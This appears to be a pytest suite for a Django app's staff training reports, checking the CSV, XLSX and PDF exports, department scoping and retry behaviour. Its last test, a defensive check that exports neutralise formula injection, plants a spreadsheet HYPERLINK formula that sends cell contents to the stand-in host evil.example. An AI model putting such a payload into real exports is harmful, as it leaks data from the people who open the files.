"""Reports compiled end to end through the service the Celery task calls: every format, read back and
checked against the database; the scope; one file per report whatever the retries."""

import csv
import io
import random

import pytest
from django.core.files.storage import storages
from django.utils import timezone
from openpyxl import load_workbook

from adoption import reports, services_reports
from adoption.models import Report
from courses.models import Enrolment
from organisation.models import StaffProfile
from tests.adoption import builders
from tests.factories import build_org


@pytest.fixture(autouse=True)
def report_storage(settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "reports": {
        "BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path / "reports"), "allow_overwrite": True}}}
    return tmp_path / "reports"


@pytest.fixture
def council(db):
    rng = random.Random(7)
    depts = builders.tree(12, rng)
    profiles = builders.staff(depts, 240, rng)
    builders.learning(profiles, rng)
    wave = builders.survey_wave(profiles, rng)
    return depts, profiles, wave


def _compile(actor, department, fmt, **kw):
    today = timezone.localdate()
    report = services_reports.report_request(actor=actor, department=department, format=fmt,
                                             start=kw.get("start", today.replace(day=1)), end=kw.get("end", today),
                                             queue=False)
    services_reports.report_compile(report_id=report.pk)
    report.refresh_from_db()
    return report


def _hr(db):
    return build_org().hr


def _read(report) -> bytes:
    with storages["reports"].open(report.file_name, "rb") as fh:
        return fh.read()


def test_csv_lists_every_active_member_of_staff_with_their_module_states(council):
    depts, profiles, wave = council
    hr = _hr(None)
    report = _compile(hr, None, "csv")
    assert report.status == Report.Status.READY, report.failure
    text = _read(report).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Staff number", "First name", "Last name", "Department"]
    assert len(body) == StaffProfile.objects.filter(active=True).count() == report.rows
    by_number = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    today = timezone.localdate()
    for e in Enrolment.objects.select_related("profile", "module"):
        row = by_number[e.profile.staff_number]
        cell = row[e.module.title]
        if e.status == Enrolment.Status.COMPLETED:
            assert cell == f"Completed {timezone.localdate(e.completed_at).isoformat()}"
        elif e.due_date < today:
            assert cell == f"Overdue (due {e.due_date.isoformat()})"
        else:
            assert cell == "Not started"


def test_a_department_report_holds_only_that_subtree(council):
    depts, profiles, wave = council
    hr = _hr(None)
    target = next(d for d in depts[1:] if d.children.exists())
    ids = set(target.descendants(include_self=True).values_list("pk", flat=True))
    report = _compile(hr, target, "csv")
    rows = list(csv.reader(io.StringIO(_read(report).decode("utf-8-sig"))))[1:]
    expected = set(StaffProfile.objects.filter(department_id__in=ids, active=True).values_list("staff_number", flat=True))
    assert {r[0] for r in rows} == expected
    assert expected  # the subtree has staff, so the test can fail


def test_xlsx_has_a_summary_a_sheet_per_directorate_and_per_module(council, tmp_path):
    depts, profiles, wave = council
    hr = _hr(None)
    report = _compile(hr, None, "xlsx")
    assert report.status == Report.Status.READY, report.failure
    path = tmp_path / "r.xlsx"
    path.write_bytes(_read(report))
    wb = load_workbook(path, read_only=True)
    names = wb.sheetnames
    assert names[0] == "Summary"
    scope = reports.scope_for(None)
    for g in scope.groups:
        assert any(n.startswith(g.name[:20]) for n in names), g.name
    assert "AI basics" in names
    staff_rows = sum(sum(1 for _ in wb[n].iter_rows(min_row=2)) for n in names[1:1 + len(scope.groups)])
    assert staff_rows == StaffProfile.objects.filter(active=True).count()


def test_pdf_is_a_document_with_the_headline_and_no_names(council):
    pytest.importorskip("pypdf")
    from pypdf import PdfReader

    depts, profiles, wave = council
    hr = _hr(None)
    report = _compile(hr, None, "pdf")
    assert report.status == Report.Status.READY, report.failure
    reader = PdfReader(io.BytesIO(_read(report)))
    text = "\n".join(p.extract_text() for p in reader.pages)
    assert "Progress report: Whole organisation" in text
    assert "Completion by module" in text or "completion by module" in text
    assert "Equity between groups of staff" in text
    for p in profiles[:50]:
        assert p.staff_number not in text


def test_a_retried_compile_leaves_one_file(council, report_storage):
    hr = _hr(None)
    report = _compile(hr, None, "csv")
    Report.objects.filter(pk=report.pk).update(status=Report.Status.QUEUED)
    services_reports.report_compile(report_id=report.pk)
    files = list(report_storage.iterdir())
    assert [p.name for p in files] == [f"{report.pk}.csv"]


def test_a_ready_report_is_not_compiled_again(council):
    hr = _hr(None)
    report = _compile(hr, None, "csv")
    assert services_reports.report_compile(report_id=report.pk) is None


def test_formula_like_names_are_neutralised_in_csv_and_xlsx(council, tmp_path):
    depts, profiles, wave = council
    p = profiles[0]
    p.user.first_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    p.user.last_name = "@SUM(1+1)"
    p.user.save()
    hr = _hr(None)
    report = _compile(hr, None, "csv")
    rows = list(csv.reader(io.StringIO(_read(report).decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == p.staff_number)
    assert row[1].startswith("'=") and row[2].startswith("'@")
    report = _compile(hr, None, "xlsx")
    path = tmp_path / "r.xlsx"
    path.write_bytes(_read(report))
    wb = load_workbook(path)
    values = [c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value]
    assert "'" + p.user.first_name in values
    assert not any(isinstance(v, str) and v.startswith(("=", "@")) for v in values)
